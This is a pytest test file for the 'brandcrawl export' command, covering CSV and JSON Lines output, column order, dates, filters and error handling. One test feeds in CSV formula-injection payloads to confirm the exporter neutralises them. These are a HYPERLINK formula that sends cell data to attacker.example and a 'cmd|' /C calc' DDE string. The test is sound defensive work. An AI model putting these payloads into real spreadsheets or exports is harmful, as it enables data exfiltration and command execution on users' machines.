"""`brandcrawl export` on a real database: fixed columns, ISO dates, plain prices, a BOM on demand,
the filters of `hits list`, and CSV cells that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from brandcrawl.cli import main
from brandcrawl.export import COLUMNS, neutralise
from brandcrawl.storage import Store
from brandcrawl.storage.models import Hit
from brandcrawl.triage import mark
from tests.conftest import gallimard_listing

SEEN = datetime(2026, 11, 27, 6, 0, 5, 123456, tzinfo=UTC)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hit_ids(store: Store) -> list[int]:
    with store.session() as session:
        return list(session.scalars(select(Hit.id).order_by(Hit.id)))


def export(
    capsysbinary: pytest.CaptureFixture[bytes], db_url: str, *arguments: str
) -> tuple[int, bytes, str]:
    code = main(["export", *arguments, "--db", db_url])
    out, err = capsysbinary.readouterr()
    return code, out, err.decode()


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_columns_are_fixed_in_this_order() -> None:
    # Users' spreadsheets and scripts read these by position and name: a change here is a change of
    # the documented format (README), new columns go at the end.
    assert COLUMNS == (
        "hit_id", "state", "state_changed_at", "brand", "marketplace", "site", "listing_id", "url", "title",
        "asset_kind", "asset", "asset_text", "seller", "price", "currency", "price_is_range", "sale_method",
        "bid_count", "followers", "end_time", "listing_status", "first_seen", "last_seen", "rule", "matched",
        "explanation", "score", "suppressed", "triaged_at", "triaged_by", "triage_note",
    )  # fmt: skip


def test_csv_has_iso_dates_plain_prices_and_a_bom_on_demand(
    store: Store, db_url: str, tmp_path: Path, capsysbinary
) -> None:
    store.save_listings(
        [
            gallimard_listing("1", SEEN, "1500", title="Compte Twitter @Gallimard — très rare, 12 k abonnés"),
            gallimard_listing("2", SEEN, None, asset_kind="domain", asset="gallimard-shop.net", seller=None),
        ],
        SEEN,
    )
    first, second = hit_ids(store)
    with store.session() as session:
        mark(session, [second], "false_positive", by="alice", now=SEEN + timedelta(hours=1), note="ours, ok")

    out = tmp_path / "hits.csv"
    code, stdout, err = export(capsysbinary, db_url, "--bom", "--out", str(out))
    assert (code, stdout, err) == (0, b"", f"2 hits exported to {out}\n")
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n")
    rows = {int(row["hit_id"]): row for row in csv_rows(data)}
    assert list(rows) == [second, first]  # newest first
    assert rows[first]["title"] == "Compte Twitter @Gallimard — très rare, 12 k abonnés"
    assert (rows[first]["price"], rows[first]["currency"], rows[first]["price_is_range"]) == (
        "1500.00",
        "EUR",
        "false",
    )
    assert (rows[first]["first_seen"], rows[first]["end_time"]) == (
        "2026-11-27T06:00:05Z",
        "2026-11-28T12:00:05Z",
    )
    assert (rows[first]["state"], rows[first]["triaged_at"], rows[first]["suppressed"]) == (
        "new",
        "",
        "false",
    )
    assert rows[second]["price"] == ""
    assert (rows[second]["state"], rows[second]["state_changed_at"]) == (
        "false_positive",
        "2026-11-27T07:00:05Z",
    )
    assert (rows[second]["triaged_by"], rows[second]["triage_note"], rows[second]["suppressed"]) == (
        "alice",
        "ours, ok",
        "true",
    )
    assert not list(tmp_path.glob("*.part"))

    code, stdout, _ = export(capsysbinary, db_url)
    assert code == 0
    assert stdout.startswith(b"hit_id,state,")  # no BOM unless asked for
    assert stdout.endswith(b"\r\n")
    assert csv_rows(stdout) == list(rows.values())


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_formulas_are_neutralised_in_every_text_column(
    store: Store, db_url: str, capsysbinary, start: str
) -> None:
    hostile = f'{start}HYPERLINK("http://attacker.example/?"&A1,"gallimard")'
    listing: dict[str, Any] = {
        "title": hostile,
        "seller": f"{start}cmd|' /C calc'!A0",
        "asset_text": f"{start}1+1",
        "site": f"{start}2+3",
    }
    item = gallimard_listing("1", SEEN, **listing)
    item.matches[0]["explanation"] = f"{start}SUM(1,2)"
    item.matches[0]["matched"] = f"{start}gallimard"
    store.save_listings([item], SEEN)
    with store.session() as session:
        mark(session, hit_ids(store), "reviewed", by=f"{start}bob", now=SEEN, note=f"{start}note")

    code, stdout, _ = export(capsysbinary, db_url)
    assert code == 0
    (row,) = csv_rows(stdout)
    for column in (
        "title",
        "seller",
        "asset_text",
        "site",
        "explanation",
        "matched",
        "triaged_by",
        "triage_note",
    ):
        assert row[column].startswith("'" + start), column
    assert row["title"] == "'" + hostile
    assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]

    code, stdout, _ = export(capsysbinary, db_url, "--format", "jsonl")
    (record,) = [json.loads(line) for line in stdout.decode().splitlines()]
    assert record["title"] == hostile, "JSON Lines are for scripts: values exactly as stored"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2", "'-2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("gallimard=1", "gallimard=1"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, shown: str) -> None:
    assert neutralise(cell) == shown


def test_jsonl_has_every_column_with_json_types(store: Store, db_url: str, capsysbinary) -> None:
    store.save_listings([gallimard_listing("1", SEEN, "99.9", followers=12000)], SEEN)
    code, stdout, _ = export(capsysbinary, db_url, "--format", "jsonl")
    assert code == 0
    (line,) = stdout.decode().splitlines()
    record = json.loads(line)
    assert tuple(record) == COLUMNS
    assert (record["price"], record["currency"], record["followers"], record["bid_count"]) == (
        99.9,
        "EUR",
        12000,
        3,
    )
    assert (record["price_is_range"], record["suppressed"], record["triaged_at"]) == (False, False, None)
    assert record["first_seen"] == "2026-11-27T06:00:05Z"
    assert record["score"] == 0.8


def test_export_takes_the_filters_of_hits_list(store: Store, db_url: str, capsysbinary) -> None:
    store.save_listings(
        [gallimard_listing("1", SEEN), gallimard_listing("2", SEEN, marketplace="swapd")], SEEN
    )
    later = SEEN + timedelta(days=2)
    store.save_listings([gallimard_listing("3", later)], later)
    first, second, third = hit_ids(store)
    with store.session() as session:
        mark(session, [first], "actioned", by="alice", now=later)

    def exported(*filters: str) -> list[int]:
        code, stdout, _ = export(capsysbinary, db_url, "--format", "jsonl", *filters)
        assert code == 0
        return [json.loads(line)["hit_id"] for line in stdout.decode().splitlines()]

    assert exported() == [third, second, first]
    assert exported("--state", "actioned") == [first]
    assert exported("--marketplace", "SWAPD") == [second]
    assert exported("--since", "2026-11-28") == [third]
    assert exported("--brand", "gallimard", "--state", "new", "--limit", "1") == [third]
    code, stdout, _ = export(capsysbinary, db_url, "--state", "resolved")
    assert (code, stdout) == (0, ",".join(COLUMNS).encode() + b"\r\n"), "nothing matches: the header alone"


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--format", "jsonl", "--bom"], "--bom goes with --format csv"),
        (
            ["--out", "/nonexistent/folder/hits.csv"],
            "cannot write /nonexistent/folder/hits.csv: No such file",
        ),
        (["--since", "27/11/2026"], "--since: '27/11/2026' is not an ISO date"),
    ],
)
def test_a_bad_export_is_one_line(
    store: Store, db_url: str, capsysbinary, arguments: list[str], message: str
) -> None:
    store.save_listings([gallimard_listing("1", SEEN)], SEEN)
    code, stdout, err = export(capsysbinary, db_url, *arguments)
    assert (code, stdout) == (2, b"")
    assert err.count("\n") == 1
    assert message in err


def test_a_failed_export_leaves_the_earlier_file_whole(
    store: Store, db_url: str, tmp_path: Path, capsysbinary
) -> None:
    store.save_listings([gallimard_listing("1", SEEN)], SEEN)
    out = tmp_path / "hits.csv"
    assert export(capsysbinary, db_url, "--out", str(out))[0] == 0
    before = out.read_bytes()
    assert export(capsysbinary, db_url, "--out", str(out), "--since", "bad")[0] == 2
    (tmp_path / "hits.csv.part").mkdir()  # the partial file cannot be written
    code, _, err = export(capsysbinary, db_url, "--out", str(out))
    assert code == 2
    assert "cannot write" in err
    assert out.read_bytes() == before
